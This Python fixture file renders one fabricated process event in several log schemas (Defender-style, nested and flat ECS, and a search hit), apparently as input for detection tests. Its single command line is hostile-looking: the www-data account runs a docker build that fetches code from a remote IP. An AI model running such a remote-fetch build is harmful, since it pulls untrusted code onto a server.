"""One build of an image, in the words of several products; none of them real."""

from __future__ import annotations

from typing import Any

LINE = "docker build -t x http://203.0.113.7/x.git"
TIME = "2026-03-02T08:06:41Z"

MDE_EVENT: dict[str, Any] = {
    "Timestamp": TIME,
    "DeviceName": "h",
    "ActionType": "ProcessCreated",
    "AccountName": "www-data",
    "FileName": "docker",
    "ProcessCommandLine": LINE,
    "InitiatingProcessFileName": "python3",
}
ECS_EVENT: dict[str, Any] = {
    "@timestamp": TIME,
    "ecs": {"version": "8.11.0"},
    "event": {"category": ["process"], "type": ["start"]},
    "host": {"name": "h"},
    "user": {"name": "www-data"},
    "process": {
        "name": "docker",
        "args": LINE.split(),
        "parent": {"executable": "/usr/bin/python3"},
    },
}
FLAT_EVENT: dict[str, Any] = {
    "@timestamp": TIME,
    "event.category": "process",
    "host.name": "h",
    "user.name": "www-data",
    "process.name": "docker",
    "process.command_line": LINE,
    "process.parent.name": "python3",
}
HIT: dict[str, Any] = {"_id": "1", "fields": {key: [value] for key, value in FLAT_EVENT.items()}}

EVENTS: dict[str, dict[str, Any]] = {
    "mde": MDE_EVENT,
    "ecs": ECS_EVENT,
    "ecs, flat": FLAT_EVENT,
    "ecs, hit": HIT,
}
